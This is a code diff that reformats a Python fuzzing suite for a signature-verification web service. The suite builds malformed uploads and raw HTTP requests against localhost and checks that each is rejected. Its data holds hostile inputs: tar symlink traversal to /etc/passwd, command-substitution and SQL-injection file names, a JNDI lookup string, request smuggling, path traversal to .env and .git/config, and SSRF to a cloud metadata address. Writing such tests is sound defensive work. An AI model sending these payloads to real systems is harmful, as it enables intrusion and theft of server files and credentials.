+    b = io.BytesIO()
+    t = tarfile.open(fileobj=b, mode='w')
+    i = tarfile.TarInfo('../../etc/x')
+    i.type = tarfile.SYMTYPE
+    i.linkname = '/etc/passwd'
+    t.addfile(i)
+    t.close()
+    return b.getvalue()
 
 def polyglots():
     p,j = saved(signature(), 'PNG'),saved(signature(), 'JPEG')
@@ -227,81 +317,176 @@ def polyglots():
 
 def junk():
     magics = dict(png=b'\x89PNG\r\n\x1a\n', jpg=b'\xff\xd8\xff\xe0', webp=b'RIFF\x10\x27\0\0WEBPVP8 ', tif=b'II*\0\x08\0\0\0', bmp=b'BM')
-    yield 'empty.png', b''; yield 'text.png', b'no picture'; yield 'utf-16.png', 'no picture'.encode('utf-16'); yield 'spaces.png', b' '*9999; yield 'newlines.png', b'\r\n'*9999; yield 'boundary.png', b'\r\n--boundary--\r\n'*99
-    for v in (0,10,0x42,0x89,0xff): yield f'byte-{v}.png', bytes([v])
-    for n in (2,16,1024,10**6): yield f'{n}-nuls.png', bytes(n); yield f'{n}-ones.png', b'\xff'*n
-    for i in range(16): yield f'random-{i}.png', random.Random(i).randbytes(2**i)
+    yield 'empty.png', b''
+    yield 'text.png', b'no picture'
+    yield 'utf-16.png', 'no picture'.encode('utf-16')
+    yield 'spaces.png', b' '*9999
+    yield 'newlines.png', b'\r\n'*9999
+    yield 'boundary.png', b'\r\n--boundary--\r\n'*99
+    for v in (0,10,0x42,0x89,0xff):
+        yield f'byte-{v}.png', bytes([v])
+    for n in (2,16,1024,10**6):
+        yield f'{n}-nuls.png', bytes(n)
+        yield f'{n}-ones.png', b'\xff'*n
+    for i in range(16):
+        yield f'random-{i}.png', random.Random(i).randbytes(2**i)
     for ext,m in magics.items():
         yield f'magic.{ext}', m
-        for i in range(8): yield f'magic-and-random-{i}.{ext}', m+random.Random(i).randbytes(4**i)
+        for i in range(8):
+            yield f'magic-and-random-{i}.{ext}', m+random.Random(i).randbytes(4**i)
 
 NAMES = ['../../etc/passwd', '..\\..\\windows\\system32\\cmd.exe', '/etc/passwd', 'C:\\con\\con', 'CON', 'NUL.png', 'COM1.png', 'a.png\0.exe', '\0', 'a"b.png', "a'b.png", 'a;b.png', 'a"; name="fmr', 'a\r\nX-Evil: 1\r\n\r\n.png', 'a\nb.png', '\r\n\r\n--boundary\r\n', 'gnp.\u202ephp', '\u202e\u2066\u200b.png', 'ünï-签名-подпись.png',
     '💣.png', 'e\u0301'*99+'.png', '\ud800.png', '\x1b[31mred.png', '\x07\x08\x7f.png', '.', '..', '', ' ', '.png', '.htaccess', '-rf', '--help', '$(id).png', '`id`.png', '|id', '%00.png', '%2e%2e%2f', '%s%n%x', '{{7*7}}.png', '<img src=x onerror=alert(1)>.png', "'; DROP TABLE writers; --", '${jndi:ldap://x/a}', '~root', 'http://x/a.png', 'file:///etc/passwd', '\\\\host\\share\\a.png', 'a.png:stream', 'a'*255+'.png', 'a'*10_000+'.png', '../'*3000, 'a.png/', 'a'*5000+'"'*5000]
 
 def uploads(): # -> name, content type, bytes, file name
     "All of them; a name begins with what kind of trick it is, and those in `good/` have to be answered"
-    def kind(folder, files, ext=''): yield from ((f'{folder}/{n}{ext}', TYPES.get((n+ext).rsplit('.')[-1], 'application/octet-stream'), b, (n+ext)) for n,b in files)
+    def kind(folder, files, ext=''):
+        yield from ((f'{folder}/{n}{ext}', TYPES.get((n+ext).rsplit('.')[-1], 'application/octet-stream'), b, (n+ext)) for n,b in files)
     yield from kind('good', good())
-    for folder,f,ext in (('truncated',truncated,''), ('flipped',flipped,''), ('png',pngs,'.png'), ('lies',lies,''), ('bomb',bombs,''), ('tiff',tiffs,'.tif'), ('jpeg',jpegs,'.jpg'), ('bmp',bmps,'.bmp'), ('frames',frames,''), ('notes',notes,''), ('heavy',heavy,''), ('stranger',strangers,''), ('polyglot',polyglots,''), ('junk',junk,'')): yield from kind(folder, f(), ext)
+    for folder,f,ext in (('truncated',truncated,''), ('flipped',flipped,''), ('png',pngs,'.png'), ('lies',lies,''), ('bomb',bombs,''), ('tiff',tiffs,'.tif'), ('jpeg',jpegs,'.jpg'), ('bmp',bmps,'.bmp'), ('frames',frames,''), ('notes',notes,''), ('heavy',heavy,''), ('stranger',strangers,''), ('polyglot',polyglots,''), ('junk',junk,'')):
+        yield from kind(folder, f(), ext)
     pic = saved(signature(), 'PNG')
-    for i,n in enumerate(NAMES): yield f'{"good" if len(n)<1000 else "name"}/name-{i}', 'image/png', pic, n # a head of a part may be refused for its length
-    for t in ('text/html','image/svg+xml','application/x-php','image/gif','','multipart/form-data; boundary=x','x'*5000,'image/png; charset=utf-7','../../x','*/*'): yield f'{"good" if len(t)<1000 else "name"}/type-{t[:20]}', t, pic, 'a.png'
-    for b,ext in ((b,e) for n,b in good() if n in ('grey.png','rgb.jpg','lossy.webp','raw.tif','rgb.bmp') for e in ('png','jpg','gif','exe','svg')): yield f'good/ending-{ext}-{len(b)}', TYPES.get(ext, 'application/octet-stream'), b, f'a.{ext}'
+    for i,n in enumerate(NAMES):
+        yield f'{"good" if len(n)<1000 else "name"}/name-{i}', 'image/png', pic, n # a head of a part may be refused for its length
+    for t in ('text/html','image/svg+xml','application/x-php','image/gif','','multipart/form-data; boundary=x','x'*5000,'image/png; charset=utf-7','../../x','*/*'):
+        yield f'{"good" if len(t)<1000 else "name"}/type-{t[:20]}', t, pic, 'a.png'
+    for b,ext in ((b,e) for n,b in good() if n in ('grey.png','rgb.jpg','lossy.webp','raw.tif','rgb.bmp') for e in ('png','jpg','gif','exe','svg')):
+        yield f'good/ending-{ext}-{len(b)}', TYPES.get(ext, 'application/octet-stream'), b, f'a.{ext}'
 
-def escaped(name): return name.replace('"', '%22').replace('\r', '%0D').replace('\n', '%0A') # as browsers do
+def escaped(name):
+    return name.replace('"', '%22').replace('\r', '%0D').replace('\n', '%0A') # as browsers do
 def multipart(fields=(), files=(), escape=escaped, boundary='boundary'):
     "Body of a form: `fields` are (name, text), `files` are (field, file name, content type, bytes)"
     parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k,v in fields]
-    for k,n,t,b in files: parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"; filename="{escape(n)}"\r\n'.encode('utf-8', 'surrogatepass')+(f'Content-Type: {t}\r\n'.encode() if t else b'')+b'\r\n'+b+b'\r\n')
+    for k,n,t,b in files:
+        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"; filename="{escape(n)}"\r\n'.encode('utf-8', 'surrogatepass')+(f'Content-Type: {t}\r\n'.encode() if t else b'')+b'\r\n'+b+b'\r\n')
     return b''.join(parts)+f'--{boundary}--\r\n'.encode()
 
 # ---- the wire
 def post(path, body=b'', head=(), kind='multipart/form-data; boundary=boundary', length=True):
     h = ['Host: 127.0.0.1', *([f'Content-Type: {kind}'] if kind else []), *([f'Content-Length: {len(body)}'] if length else []), *head]
     return f'POST {path} HTTP/1.1\r\n'.encode()+'\r\n'.join(h).encode()+b'\r\n\r\n'+body
-def get(path, *head, version=' HTTP/1.1'): return f'GET {path}{version}\r\n'.encode()+''.join(o+'\r\n' for o in ('Host: 127.0.0.1', *head)).encode()+b'\r\n'
-def chunked(*parts): return b''.join(b'%x\r\n%s\r\n'%(len(o), o) for o in parts)
+def get(path, *head, version=' HTTP/1.1'):
+    return f'GET {path}{version}\r\n'.encode()+''.join(o+'\r\n' for o in ('Host: 127.0.0.1', *head)).encode()+b'\r\n'
+def chunked(*parts):
+    return b''.join(b'%x\r\n%s\r\n'%(len(o), o) for o in parts)
 
 def requests(): # -> name, what is sent: bytes, and numbers where it waits so many seconds, and the statuses that may come; 0 is a closed connection
     "Attacks on the form, on HTTP and on the paths"
-    pic = saved(signature(), 'PNG'); f = lambda n='image': (n,'a.png','image/png',pic); ok = multipart(files=[f()]); te = 'Transfer-Encoding: chunked'
+    pic = saved(signature(), 'PNG')
+    f = lambda n='image': (n,'a.png','image/png',pic)
+    ok = multipart(files=[f()])
+    te = 'Transfer-Encoding: chunked'
     bad = (400,413,415,422)
-    def ink(name, body, allow=bad, **kw): return name, [post('/ink', body, **kw)], allow
-    yield ink('no boundary', ok, kind='multipart/form-data'); yield ink('empty boundary', ok, kind='multipart/form-data; boundary='); yield ink('wrong boundary', ok, kind='multipart/form-data; boundary=other'); yield ink('boundary of 10000', ok, kind='multipart/form-data; boundary='+'b'*10_000)
-    yield ink('boundary of umlauts', ok, kind='multipart/form-data; boundary=\xfc'); yield ink('no final boundary', ok[:-14]); yield ink('cut in the head of a part', ok[:40]); yield ink('nothing but the end', b'--boundary--\r\n'); yield ink('no form at all', b'', kind=None); yield ink('empty form', b'')
-    yield ink('JSON', b'{"image":null}', kind='application/json'); yield ink('deep JSON', b'['*100_000, kind='application/json'); yield ink('urlencoded', b'image=x', kind='application/x-www-form-urlencoded'); yield ink('raw image', pic, kind='image/png'); yield ink('gzipped body', gzip.compress(ok), head=['Content-Encoding: gzip'])
-    yield ink('1000 files', multipart(files=[f()]*1000)); yield ink('1000 empty files', multipart(files=[('image','a','image/png',b'')]*1000)); yield ink('1000 fields', multipart([('x','y')]*1000, [f()])); yield ink('1000 files of other names', multipart(files=[f(f'x{i}') for i in range(1000)]))
-    yield ink('field of 5 MB', multipart([('image','x'*5_000_000)])); yield ink('other field of 20 MB', multipart([('x','y'*20_000_000)], [f()])); yield ink('image as a field', multipart([('image','x')])); yield ink('image twice', multipart(files=[f(), f()]), allow=(200,*bad)); yield ink('name of 100 KB', multipart([('x'*100_000,'y')], [f()]))
-    yield ink('nested multipart', multipart(files=[('image','a','multipart/mixed; boundary=inner',multipart(files=[f()], boundary='inner'))])); yield ink('part without a name', b'--boundary\r\nContent-Disposition: form-data\r\n\r\nx\r\n--boundary--\r\n'); yield ink('part without a head', b'--boundary\r\n\r\nx\r\n--boundary--\r\n'); yield ink('part with 10000 headers', b'--boundary\r\n'+b'X: y\r\n'*10_000+b'\r\nx\r\n--boundary--\r\n')
-    yield ink('header of a part without end', b'--boundary\r\nX: '+b'y'*2_000_000); yield ink('_charset_', multipart([('_charset_','utf-7')], [f()]), allow=(200,*bad)); yield ink('base64 part', ok.replace(b'Content-Type: image/png', b'Content-Transfer-Encoding: base64'), allow=(200,*bad)); yield ink('lone line feeds', ok.replace(b'\r\n', b'\n', 3)); yield ink('NUL in a name', multipart([('ima\0ge','x')], [f()]), allow=(200,*bad)); yield ink('11 MB', multipart(files=[('image','a','image/png',bytes(11_000_000))]), allow=(413,))
+    def ink(name, body, allow=bad, **kw):
+        return name, [post('/ink', body, **kw)], allow
+    yield ink('no boundary', ok, kind='multipart/form-data')
+    yield ink('empty boundary', ok, kind='multipart/form-data; boundary=')
+    yield ink('wrong boundary', ok, kind='multipart/form-data; boundary=other')
+    yield ink('boundary of 10000', ok, kind='multipart/form-data; boundary='+'b'*10_000)
+    yield ink('boundary of umlauts', ok, kind='multipart/form-data; boundary=\xfc')
+    yield ink('no final boundary', ok[:-14])
+    yield ink('cut in the head of a part', ok[:40])
+    yield ink('nothing but the end', b'--boundary--\r\n')
+    yield ink('no form at all', b'', kind=None)
+    yield ink('empty form', b'')
+    yield ink('JSON', b'{"image":null}', kind='application/json')
+    yield ink('deep JSON', b'['*100_000, kind='application/json')
+    yield ink('urlencoded', b'image=x', kind='application/x-www-form-urlencoded')
+    yield ink('raw image', pic, kind='image/png')
+    yield ink('gzipped body', gzip.compress(ok), head=['Content-Encoding: gzip'])
+    yield ink('1000 files', multipart(files=[f()]*1000))
+    yield ink('1000 empty files', multipart(files=[('image','a','image/png',b'')]*1000))
+    yield ink('1000 fields', multipart([('x','y')]*1000, [f()]))
+    yield ink('1000 files of other names', multipart(files=[f(f'x{i}') for i in range(1000)]))
+    yield ink('field of 5 MB', multipart([('image','x'*5_000_000)]))
+    yield ink('other field of 20 MB', multipart([('x','y'*20_000_000)], [f()]))
+    yield ink('image as a field', multipart([('image','x')]))
+    yield ink('image twice', multipart(files=[f(), f()]), allow=(200,*bad))
+    yield ink('name of 100 KB', multipart([('x'*100_000,'y')], [f()]))
+    yield ink('nested multipart', multipart(files=[('image','a','multipart/mixed; boundary=inner',multipart(files=[f()], boundary='inner'))]))
+    yield ink('part without a name', b'--boundary\r\nContent-Disposition: form-data\r\n\r\nx\r\n--boundary--\r\n')
+    yield ink('part without a head', b'--boundary\r\n\r\nx\r\n--boundary--\r\n')
+    yield ink('part with 10000 headers', b'--boundary\r\n'+b'X: y\r\n'*10_000+b'\r\nx\r\n--boundary--\r\n')
+    yield ink('header of a part without end', b'--boundary\r\nX: '+b'y'*2_000_000)
+    yield ink('_charset_', multipart([('_charset_','utf-7')], [f()]), allow=(200,*bad))
+    yield ink('base64 part', ok.replace(b'Content-Type: image/png', b'Content-Transfer-Encoding: base64'), allow=(200,*bad))
+    yield ink('lone line feeds', ok.replace(b'\r\n', b'\n', 3))
+    yield ink('NUL in a name', multipart([('ima\0ge','x')], [f()]), allow=(200,*bad))
+    yield ink('11 MB', multipart(files=[('image','a','image/png',bytes(11_000_000))]), allow=(413,))
     many = [('references',f'{i}.png','image/png',pic) for i in range(13)]
-    yield '13 references', [post('/verify', multipart(files=[f('questioned'), *many]))], bad; yield '13 references to enrol', [post('/writers/many/references', multipart(files=many))], bad; yield '12 x 9.9 MB', [post('/verify', multipart(files=[f('questioned'), *(('references','a','image/png',pic+bytes(9_900_000)) for _ in range(12))]))], (200,409,*bad)
-    for k,v in (('fmr','nan'),('fmr','-1'),('fmr','1e999'),('fmr','0x1'),('fmr','9'*9999),('explain','maybe'),('writer','../../etc'),('writer','a\0b'),('writer','x'*101),('writer',"' or 1=1 --"),('writer','\u202e')): yield f'{k}={v[:12]!r}', [post('/verify', multipart([(k,v), *([('writer','nobody')] if k!='writer' else [])], [f('questioned')]))], (404,*bad)
+    yield '13 references', [post('/verify', multipart(files=[f('questioned'), *many]))], bad
+    yield '13 references to enrol', [post('/writers/many/references', multipart(files=many))], bad
+    yield '12 x 9.9 MB', [post('/verify', multipart(files=[f('questioned'), *(('references','a','image/png',pic+bytes(9_900_000)) for _ in range(12))]))], (200,409,*bad)
+    for k,v in (('fmr','nan'),('fmr','-1'),('fmr','1e999'),('fmr','0x1'),('fmr','9'*9999),('explain','maybe'),('writer','../../etc'),('writer','a\0b'),('writer','x'*101),('writer',"' or 1=1 --"),('writer','\u202e')):
+        yield f'{k}={v[:12]!r}', [post('/verify', multipart([(k,v), *([('writer','nobody')] if k!='writer' else [])], [f('questioned')]))], (404,*bad)
     # Lengths that lie
-    for n in ('-1','+5','1e3','0x10','99999999999999999999','','5, 5','abc'): yield f'Content-Length: {n}', [post('/ink', ok, length=False, head=[f'Content-Length: {n}'])], (0,*bad)
-    yield 'two lengths', [post('/ink', ok, head=[f'Content-Length: {len(ok)+5}'])], (0,*bad); yield 'length too short', [post('/ink', ok, length=False, head=[f'Content-Length: {len(ok)-99}'])], (0,*bad); yield 'length of 11 MB announced', [post('/ink', length=False, head=['Content-Length: 11000000']), ok], (0,408,*bad); yield 'length of 1 TB announced', [post('/ink', length=False, head=['Content-Length: 1000000000000']), ok], (0,*bad)
-    yield 'length and chunks', [post('/ink', chunked(ok, b''), head=[te])], (0,200,*bad); yield 'smuggled request', [post('/ink', b'0\r\n\r\nGET /decisions HTTP/1.1\r\nHost: x\r\n\r\n', head=[te])], (0,*bad)
-    for t in ('xchunked','gzip, chunked','chunked, identity',' chunked','identity'): yield f'Transfer-Encoding: {t}', [post('/ink', chunked(ok, b''), length=False, head=[f'Transfer-Encoding: {t}'])], (0,200,501,*bad)
-    yield 'chunks without end', [post('/ink', length=False, head=[te]), *[chunked(b'x'*2**20)]*300], (0,*bad); yield 'good chunks', [post('/ink', chunked(*(ok[i:i+1000] for i in range(0, len(ok), 1000)), b''), length=False, head=[te])], (200,422); yield 'chunks of one byte', [post('/ink', chunked(*(ok[i:i+1] for i in range(len(ok))), b''), length=False, head=[te])], (200,422)
-    yield 'garbage for chunks', [post('/ink', b'zz\r\nhello\r\n', length=False, head=[te])], (0,*bad); yield 'chunk of minus one', [post('/ink', b'-1\r\nhello\r\n', length=False, head=[te])], (0,*bad); yield 'chunk of 2**64', [post('/ink', b'ffffffffffffffff\r\nhello\r\n', length=False, head=[te]), .1], (0,408,*bad); yield 'chunk extension of 1 MB', [post('/ink', b'5;'+b'x'*10**6+b'\r\nhello\r\n', length=False, head=[te])], (0,*bad)
-    yield 'trailers of 1 MB', [post('/ink', chunked(ok)+b'0\r\n'+b'X: y\r\n'*200_000+b'\r\n', length=False, head=[te])], (0,200,*bad); yield 'Expect of 1 TB', [post('/ink', length=False, head=['Content-Length: 1000000000000', 'Expect: 100-continue'])], (0,*bad); yield 'unknown Expect', [post('/ink', ok, head=['Expect: the-spanish-inquisition'])], (0,200,417,*bad)
+    for n in ('-1','+5','1e3','0x10','99999999999999999999','','5, 5','abc'):
+        yield f'Content-Length: {n}', [post('/ink', ok, length=False, head=[f'Content-Length: {n}'])], (0,*bad)
+    yield 'two lengths', [post('/ink', ok, head=[f'Content-Length: {len(ok)+5}'])], (0,*bad)
+    yield 'length too short', [post('/ink', ok, length=False, head=[f'Content-Length: {len(ok)-99}'])], (0,*bad)
+    yield 'length of 11 MB announced', [post('/ink', length=False, head=['Content-Length: 11000000']), ok], (0,408,*bad)
+    yield 'length of 1 TB announced', [post('/ink', length=False, head=['Content-Length: 1000000000000']), ok], (0,*bad)
+    yield 'length and chunks', [post('/ink', chunked(ok, b''), head=[te])], (0,200,*bad)
+    yield 'smuggled request', [post('/ink', b'0\r\n\r\nGET /decisions HTTP/1.1\r\nHost: x\r\n\r\n', head=[te])], (0,*bad)
+    for t in ('xchunked','gzip, chunked','chunked, identity',' chunked','identity'):
+        yield f'Transfer-Encoding: {t}', [post('/ink', chunked(ok, b''), length=False, head=[f'Transfer-Encoding: {t}'])], (0,200,501,*bad)
+    yield 'chunks without end', [post('/ink', length=False, head=[te]), *[chunked(b'x'*2**20)]*300], (0,*bad)
+    yield 'good chunks', [post('/ink', chunked(*(ok[i:i+1000] for i in range(0, len(ok), 1000)), b''), length=False, head=[te])], (200,422)
+    yield 'chunks of one byte', [post('/ink', chunked(*(ok[i:i+1] for i in range(len(ok))), b''), length=False, head=[te])], (200,422)
+    yield 'garbage for chunks', [post('/ink', b'zz\r\nhello\r\n', length=False, head=[te])], (0,*bad)
+    yield 'chunk of minus one', [post('/ink', b'-1\r\nhello\r\n', length=False, head=[te])], (0,*bad)
+    yield 'chunk of 2**64', [post('/ink', b'ffffffffffffffff\r\nhello\r\n', length=False, head=[te]), .1], (0,408,*bad)
+    yield 'chunk extension of 1 MB', [post('/ink', b'5;'+b'x'*10**6+b'\r\nhello\r\n', length=False, head=[te])], (0,*bad)
+    yield 'trailers of 1 MB', [post('/ink', chunked(ok)+b'0\r\n'+b'X: y\r\n'*200_000+b'\r\n', length=False, head=[te])], (0,200,*bad)
+    yield 'Expect of 1 TB', [post('/ink', length=False, head=['Content-Length: 1000000000000', 'Expect: 100-continue'])], (0,*bad)
+    yield 'unknown Expect', [post('/ink', ok, head=['Expect: the-spanish-inquisition'])], (0,200,417,*bad)
     # Heads
-    yield 'header of 100 KB', [get('/healthz', 'X-Big: '+'x'*100_000)], (0,200,400,431); yield '10000 headers', [get('/healthz', *['X: y']*10_000)], (0,200,400,431); yield 'header without end', [b'GET / HTTP/1.1\r\nX: ', *[b'y'*10_000]*100], (0,400,431); yield 'NUL in a header', [get('/healthz', 'X: a\0b')], (0,200,400); yield 'folded header', [get('/healthz', 'X: a\r\n b')], (0,200,400); yield 'header without colon', [get('/healthz', 'evil')], (0,400); yield 'space before colon', [get('/healthz', 'Content-Length : 5')], (0,400)
-    yield 'two hosts', [get('/healthz', 'Host: evil')], (0,200,400,401,403,421); yield 'no host', [b'GET /healthz HTTP/1.1\r\n\r\n'], (0,400); yield 'HTTP/0.9', [b'GET /healthz\r\n\r\n'], (0,400); yield 'HTTP/1.0', [get('/healthz', version=' HTTP/1.0')], (200,); yield 'HTTP/2 by force', [b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'], (0,400,404,405,505); yield 'HTTP/9.9', [get('/healthz', version=' HTTP/9.9')], (0,200,400,505); yield 'TLS', [b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'+bytes(500)], (0,400); yield 'nothing', [b'', .1], (0,408); yield 'garbage', [random.Random(0).randbytes(5000), b'\r\n\r\n'], (0,400)
-    yield 'upgrade to websocket', [get('/', 'Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==', 'Sec-WebSocket-Version: 13')], (0,200,400,403,404,426); yield 'upgrade to h2c', [get('/healthz', 'Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAAP__')], (200,)
-    for m in ('TRACE','CONNECT','PROPFIND','EVIL','get','OPTIONS','DELETE','PUT','PATCH'): yield f'method {m}', [f'{m} /verify HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode()], (0,400,404,405,501)
+    yield 'header of 100 KB', [get('/healthz', 'X-Big: '+'x'*100_000)], (0,200,400,431)
+    yield '10000 headers', [get('/healthz', *['X: y']*10_000)], (0,200,400,431)
+    yield 'header without end', [b'GET / HTTP/1.1\r\nX: ', *[b'y'*10_000]*100], (0,400,431)
+    yield 'NUL in a header', [get('/healthz', 'X: a\0b')], (0,200,400)
+    yield 'folded header', [get('/healthz', 'X: a\r\n b')], (0,200,400)
+    yield 'header without colon', [get('/healthz', 'evil')], (0,400)
+    yield 'space before colon', [get('/healthz', 'Content-Length : 5')], (0,400)
+    yield 'two hosts', [get('/healthz', 'Host: evil')], (0,200,400,401,403,421)
+    yield 'no host', [b'GET /healthz HTTP/1.1\r\n\r\n'], (0,400)
+    yield 'HTTP/0.9', [b'GET /healthz\r\n\r\n'], (0,400)
+    yield 'HTTP/1.0', [get('/healthz', version=' HTTP/1.0')], (200,)
+    yield 'HTTP/2 by force', [b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'], (0,400,404,405,505)
+    yield 'HTTP/9.9', [get('/healthz', version=' HTTP/9.9')], (0,200,400,505)
+    yield 'TLS', [b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'+bytes(500)], (0,400)
+    yield 'nothing', [b'', .1], (0,408)
+    yield 'garbage', [random.Random(0).randbytes(5000), b'\r\n\r\n'], (0,400)
+    yield 'upgrade to websocket', [get('/', 'Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==', 'Sec-WebSocket-Version: 13')], (0,200,400,403,404,426)
+    yield 'upgrade to h2c', [get('/healthz', 'Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAAP__')], (200,)
+    for m in ('TRACE','CONNECT','PROPFIND','EVIL','get','OPTIONS','DELETE','PUT','PATCH'):
+        yield f'method {m}', [f'{m} /verify HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode()], (0,400,404,405,501)
     # Paths
     for p in ('/page/../../etc/passwd','/page/../../../etc/passwd','/page/%2e%2e/%2e%2e/etc/passwd','/page/..%2f..%2fetc%2fpasswd','/page/%252e%252e/etc/passwd','/page/..\\..\\etc\\passwd','/page/....//....//etc/passwd','/page//etc/passwd','/page/%2fetc%2fpasswd','/page/..;/api.py','/page/%c0%ae%c0%ae/','/page/\0','/page/%00','/page/index.html%00.png','/page/../api.py','/page/%2e%2e/weights/verifier.onnx','//etc/passwd','/../../etc/passwd','/.git/config','/.env','/page/.','/page/..','/page/'+'a/'*5000):
         yield f'path {p[:40]!r}', [get(p)], (0,307,400,401,404,405,414,422)
-    for p in ('/writers/../decisions','/writers/%2e%2e','/writers/a%2fb','/writers/%00','/writers/%ff%fe','/writers/'+'x'*101,'/writers/'+'x'*50_000,"/writers/'%20or%201=1--",'/writers/%F0%9F%92%A3','/writers?limit=-1','/writers?limit=99999999999999999999','/writers?after='+'x'*5000,'/writers?limit=nan','/decisions?after=1e9','/decisions?after=-99999999999999999999','/decisions?limit='+'9'*5000): yield f'path {p[:40]!r}', [get(p)], (0,200,307,400,404,414,422)
-    yield 'absolute form', [get('http://169.254.169.254/latest/meta-data/')], (0,400,401,404,421); yield 'absolute form to us', [get('http://127.0.0.1/healthz')], (0,200,400,404); yield 'authority form', [b'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n'], (0,400,404,405); yield 'star form', [b'OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'], (0,200,204,400,404,405); yield 'no path', [b'GET  HTTP/1.1\r\nHost: x\r\n\r\n'], (0,400); yield 'path of umlauts', ['GET /ü HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode()], (0,400,404)
-    for h in ('Authorization: Bearer','Authorization: Bearer sa_','Authorization: Bearer '+'x'*10_000,'Authorization: Basic YTpi','Authorization: Bearer sa_\xff','Authorization: \x00'): yield f'{h[:30]!r}', [get('/writers', h)], (0,200,400,401)
-    for h in ('Accept: image/evil','Accept-Encoding: gzip;q=nan, evil','Range: bytes=0-0,0-0,'+'0-0,'*1000,'If-None-Match: "'+'x'*9000,'Content-Type: \xff','Cookie: '+'a=b; '*1000,'X-Forwarded-For: 127.0.0.1','X-Forwarded-Host: evil','Forwarded: for=127.0.0.1'): yield f'{h[:30]!r}', [get('/', h)], (0,200,206,304,400,401,406,416)
+    for p in ('/writers/../decisions','/writers/%2e%2e','/writers/a%2fb','/writers/%00','/writers/%ff%fe','/writers/'+'x'*101,'/writers/'+'x'*50_000,"/writers/'%20or%201=1--",'/writers/%F0%9F%92%A3','/writers?limit=-1','/writers?limit=99999999999999999999','/writers?after='+'x'*5000,'/writers?limit=nan','/decisions?after=1e9','/decisions?after=-99999999999999999999','/decisions?limit='+'9'*5000):
+        yield f'path {p[:40]!r}', [get(p)], (0,200,307,400,404,414,422)
+    yield 'absolute form', [get('http://169.254.169.254/latest/meta-data/')], (0,400,401,404,421)
+    yield 'absolute form to us', [get('http://127.0.0.1/healthz')], (0,200,400,404)
+    yield 'authority form', [b'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n'], (0,400,404,405)
+    yield 'star form', [b'OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'], (0,200,204,400,404,405)
+    yield 'no path', [b'GET  HTTP/1.1\r\nHost: x\r\n\r\n'], (0,400)
+    yield 'path of umlauts', ['GET /ü HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode()], (0,400,404)
+    for h in ('Authorization: Bearer','Authorization: Bearer sa_','Authorization: Bearer '+'x'*10_000,'Authorization: Basic YTpi','Authorization: Bearer sa_\xff','Authorization: \x00'):
+        yield f'{h[:30]!r}', [get('/writers', h)], (0,200,400,401)
+    for h in ('Accept: image/evil','Accept-Encoding: gzip;q=nan, evil','Range: bytes=0-0,0-0,'+'0-0,'*1000,'If-None-Match: "'+'x'*9000,'Content-Type: \xff','Cookie: '+'a=b; '*1000,'X-Forwarded-For: 127.0.0.1','X-Forwarded-Host: evil','Forwarded: for=127.0.0.1'):
+        yield f'{h[:30]!r}', [get('/', h)], (0,200,206,304,400,401,406,416)
 
 if __name__=='__main__':
     from collections import Counter
     n,size = Counter(),0
     for i,(name,_,b,_) in enumerate(uploads()):
-        n[name.split('/')[0]] += 1; size += len(b)
-        if sys.argv[1:]: p = Path(sys.argv[1], f'{i:04}-'+''.join(c if c.isascii() and (c.isalnum() or c in '.-+') else '_' for c in name)[:80]); p.parent.mkdir(parents=True, exist_ok=True); p.write_bytes(b)
-    print(f'{n.total()} files, {size/1e6:.0f} MB:', ', '.join(f'{v} {k}' for k,v in n.items())); print(sum(1 for _ in requests()), 'requests')
+        n[name.split('/')[0]] += 1
+        size += len(b)
+        if sys.argv[1:]:
+            p = Path(sys.argv[1], f'{i:04}-'+''.join(c if c.isascii() and (c.isalnum() or c in '.-+') else '_' for c in name)[:80])
+            p.parent.mkdir(parents=True, exist_ok=True)
+            p.write_bytes(b)
+    print(f'{n.total()} files, {size/1e6:.0f} MB:', ', '.join(f'{v} {k}' for k,v in n.items()))
+    print(sum(1 for _ in requests()), 'requests')
